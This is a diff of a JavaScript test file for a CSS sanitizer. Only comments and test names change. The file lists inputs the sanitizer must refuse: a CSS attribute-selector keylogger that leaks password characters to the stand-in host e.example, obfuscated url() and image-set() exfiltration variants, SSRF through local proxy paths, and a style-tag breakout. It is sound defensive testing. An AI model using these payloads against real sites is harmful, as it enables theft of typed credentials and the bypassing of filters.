@@ -6,7 +6,7 @@ const FILE = '/media/0123456789abcdef/a.png'
 const E = 'e.example'
 
 const REFUSED = [
-  // The attack: what is typed, key by key.
+  // The attack: leaking input character by character.
   `input[type=password][value$="x"] { background: url(https://${E}/x) }`,
   `a { background: url(https://${E}) }`,
   `a { background: url("https://${E}/") }`,
@@ -41,7 +41,7 @@ const REFUSED = [
   `:root { --x: "https://${E}/" } a { background: image-set(var(--x) 1x) }`,
   `:root { --x: "https:${E}" } a { background: image-set(var(--x) 1x) }`,
   `:root { --x: url(//${E}/) } a { background: var(--x) }`,
-  // Addresses of this site that ask others for what they name.
+  // Paths of this site that fetch a URL from their query.
   `:root { --x: "/media/remote?url=https%3A%2F%2F${E}" } a { background: image-set(var(--x) 1x) }`,
   `a { background: image-set(v\\61r(--x, "/media/remote?url=https%3A%2F%2F${E}") 1x) }`,
   `a { background: image-set(if(else: "media/remote?url=https%3A%2F%2F${E}") 1x) }`,
@@ -59,7 +59,7 @@ const REFUSED = [
   `a { cursor: url(https://${E}/), auto }`,
   `a { filter: url(https://${E}/#x) }`,
   `@document url(https://${E}/) { a { color: red } }`,
-  // Here, and yet able to fetch from elsewhere, or to do something.
+  // Local, but able to load from elsewhere or to run something.
   `a { background: url(/media/remote?url=https%3A%2F%2F${E}) }`,
   `a { background: url(${FILE}?x) }`,
   `a { background: url(/api/v2/feeds/oembed?url=https://${E}) }`,
@@ -74,7 +74,7 @@ const REFUSED = [
   'a{}</style><script>',
 ]
 
-test.each(REFUSED)('%s', (css) => {
+test.each(REFUSED)('refused: %s', (css) => {
   expect(cssProblem(css)).toEqual(expect.any(String))
   expect(cssProblem(css.replaceAll(' ', '\t').replaceAll('\n', '\r\n'))).toEqual(expect.any(String))
 })
@@ -97,7 +97,7 @@ test.each([
   '@layer x { @supports (display: grid) { a:is(.b, .c) { width: calc(1em * 2e3) } } }',
   ':root { --gap: 4px; --Font: "Inter", sans-serif } a { margin: -1px; margin: -var(--gap) }',
   '#url { color: red } /* url(https://e.example) and @import too */',
-])('good: %s', (css) => expect(cssProblem(css)).toBeNull())
+])('accepted: %s', (css) => expect(cssProblem(css)).toBeNull())
 
 it('reads a long sheet in linear time', () => {
   for (const part of ['url(', '"', '\\', '/*', '((((', '@', 'a{b:"x"}', 'url( ', "'\\\n"]) {
